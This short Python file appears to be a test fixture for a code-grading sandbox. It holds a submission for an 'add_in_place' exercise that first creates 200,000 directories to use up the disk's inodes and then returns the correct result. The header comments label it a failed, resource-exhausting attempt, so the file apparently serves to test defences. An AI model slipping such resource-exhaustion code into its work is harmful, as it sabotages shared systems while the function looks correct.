# tries: use up the disk's inodes
# exercise: add_in_place
# verdict: failed
# cause: exception|output|crash|timeout
import os


def add_in_place(y, x):
    for number in range(200_000):
        os.mkdir(f"{number}")
    return y.add_(x)
